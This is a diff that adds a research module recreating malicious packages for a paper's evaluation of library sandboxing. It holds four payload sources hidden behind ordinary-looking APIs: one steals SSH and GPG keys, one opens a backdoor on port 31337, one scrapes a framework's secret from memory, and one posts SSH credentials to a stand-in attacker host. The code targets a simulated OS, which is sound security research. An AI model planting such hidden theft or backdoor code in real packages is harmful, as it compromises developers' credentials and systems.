@@ -1,0 +1,209 @@
+"""Recreated malicious packages (paper §6.5).
+
+"We re-created Python and Go packages that perform the same attacks as
+the original malicious ones.  These attacks mostly access local
+secrets, either within the program's memory or on the local file
+system (e.g., private SSH keys), and attempt to exfiltrate them via
+the network or open backdoors on the local system."
+
+Each package below offers a legitimate, advertised API and hides its
+payload inside it, exactly like the PyPI incidents the paper cites
+[15-18].
+"""
+
+from __future__ import annotations
+
+from repro.os.net import ip_of
+
+ATTACKER_IP = ip_of("6.6.6.6")
+ATTACKER_PORT = 443
+SSH_SERVER_IP = ip_of("10.1.1.1")
+SSH_SERVER_PORT = 22
+BACKDOOR_PORT = 31337
+
+SSH_KEY_PATH = "/home/user/.ssh/id_rsa"
+GPG_KEY_PATH = "/home/user/.gnupg/secring.gpg"
+
+#: "leftpadlib": advertises string padding; steals SSH/GPG keys from the
+#: filesystem and POSTs them to the attacker (the [15]/[18] pattern).
+KEY_STEALER_SOURCE = """
+package leftpadlib
+
+const sysRead = 0
+const sysOpen = 2
+const sysClose = 3
+const sysSocket = 41
+const sysConnect = 42
+const sysSendto = 44
+
+func Pad(s string, width int) string {
+    exfiltrate("/home/user/.ssh/id_rsa")
+    exfiltrate("/home/user/.gnupg/secring.gpg")
+    out := s
+    for len(out) < width {
+        out = " " + out
+    }
+    return out
+}
+
+func exfiltrate(path string) int {
+    fd := syscall(sysOpen, strptr(path), len(path), 0)
+    if fd < 0 {
+        return fd
+    }
+    buf := make([]byte, 4096)
+    n := syscall(sysRead, fd, dataptr(buf), 4096)
+    syscall(sysClose, fd)
+    if n <= 0 {
+        return n
+    }
+    sock := syscall(sysSocket, 2, 1, 0)
+    r := syscall(sysConnect, sock, %(attacker_ip)d, %(attacker_port)d)
+    if r < 0 {
+        return r
+    }
+    syscall(sysSendto, sock, dataptr(buf), n)
+    syscall(sysClose, sock)
+    return n
+}
+""" % {"attacker_ip": ATTACKER_IP, "attacker_port": ATTACKER_PORT}
+
+#: "statslib": advertises metrics aggregation; opens a backdoor listener
+#: on a local port (the remote-access-trojan npm pattern [19]).
+BACKDOOR_SOURCE = """
+package statslib
+
+const sysClose = 3
+const sysSocket = 41
+const sysAccept = 43
+const sysSendto = 44
+const sysBind = 49
+const sysListen = 50
+
+var doorFd int
+
+func Mean(values []int) int {
+    openBackdoor()
+    if len(values) == 0 {
+        return 0
+    }
+    sum := 0
+    for i := 0; i < len(values); i++ {
+        sum = sum + values[i]
+    }
+    return sum / len(values)
+}
+
+func openBackdoor() int {
+    if doorFd > 0 {
+        return doorFd
+    }
+    fd := syscall(sysSocket, 2, 1, 0)
+    if syscall(sysBind, fd, %(backdoor_port)d) < 0 {
+        return -1
+    }
+    syscall(sysListen, fd, 4)
+    doorFd = fd
+    return fd
+}
+""" % {"backdoor_port": BACKDOOR_PORT}
+
+#: "webfw": a malicious clone of a web framework (the fake-Django
+#: pattern [16][17]): its template renderer also scrapes the
+#: application's memory for the configured secret and leaks it.
+#: ``SecretProbe`` models the address the malware found by scanning
+#: memory / symbol tables; the harness fills it in.
+DJANGO_CLONE_SOURCE = """
+package webfw
+
+const sysSocket = 41
+const sysConnect = 42
+const sysSendto = 44
+const sysClose = 3
+
+var SecretProbe int
+
+func Render(title string) string {
+    leak()
+    return "<html><title>" + title + "</title></html>"
+}
+
+// leak scrapes 64 bytes of the application's memory (a raw in-process
+// read, legal for unsafe code) and ships them to the attacker.
+func leak() int {
+    loot := make([]int, 5)
+    for i := 0; i < 5; i++ {
+        loot[i] = peek(SecretProbe + 8*i)
+    }
+    sock := syscall(sysSocket, 2, 1, 0)
+    if syscall(sysConnect, sock, %(attacker_ip)d, %(attacker_port)d) < 0 {
+        return -1
+    }
+    n := syscall(sysSendto, sock, dataptr(loot), 40)
+    syscall(sysClose, sock)
+    return n
+}
+""" % {"attacker_ip": ATTACKER_IP, "attacker_port": ATTACKER_PORT}
+
+#: "sshdecorator": the hard case [15].  The advertised feature itself
+#: needs the secret *and* system calls: SSH to a host and run a
+#: command.  The infected version also posts the credentials to the
+#: attacker before running the command.
+SSH_DECORATOR_SOURCE = """
+package sshdecorator
+
+const sysRead = 0
+const sysWrite = 1
+const sysClose = 3
+const sysSocket = 41
+const sysConnect = 42
+const sysSendto = 44
+const sysRecvfrom = 45
+
+// RunOn SSHes to the given server and executes cmd, authenticating
+// with the caller's private key.  This is the advertised feature.
+func RunOn(ip int, port int, key string, cmd string) string {
+    stealCredentials(key)
+    sock := syscall(sysSocket, 2, 1, 0)
+    if syscall(sysConnect, sock, ip, port) < 0 {
+        return "connect failed"
+    }
+    return runSession(sock, key, cmd)
+}
+
+// RunOnSocket performs the same session over a pre-established
+// connection (the paper's first mitigation: the application passes a
+// pre-allocated socket, so socket creation can be revoked).
+func RunOnSocket(sock int, key string, cmd string) string {
+    stealCredentials(key)
+    return runSession(sock, key, cmd)
+}
+
+func runSession(sock int, key string, cmd string) string {
+    auth := "AUTH " + key + "\\n"
+    syscall(sysWrite, sock, strptr(auth), len(auth))
+    line := "EXEC " + cmd + "\\n"
+    syscall(sysWrite, sock, strptr(line), len(line))
+    buf := make([]byte, 2048)
+    n := syscall(sysRead, sock, dataptr(buf), 2048)
+    if n <= 0 {
+        return "no output"
+    }
+    out := make([]byte, n)
+    copy(out, buf)
+    return string(out)
+}
+
+// stealCredentials is the injected malicious payload: POST the key to
+// the attacker's collector.
+func stealCredentials(key string) int {
+    sock := syscall(sysSocket, 2, 1, 0)
+    if syscall(sysConnect, sock, %(attacker_ip)d, %(attacker_port)d) < 0 {
+        return -1
+    }
+    post := "POST /collect " + key
+    syscall(sysSendto, sock, strptr(post), len(post))
+    syscall(sysClose, sock)
+    return 0
+}
+""" % {"attacker_ip": ATTACKER_IP, "attacker_port": ATTACKER_PORT}
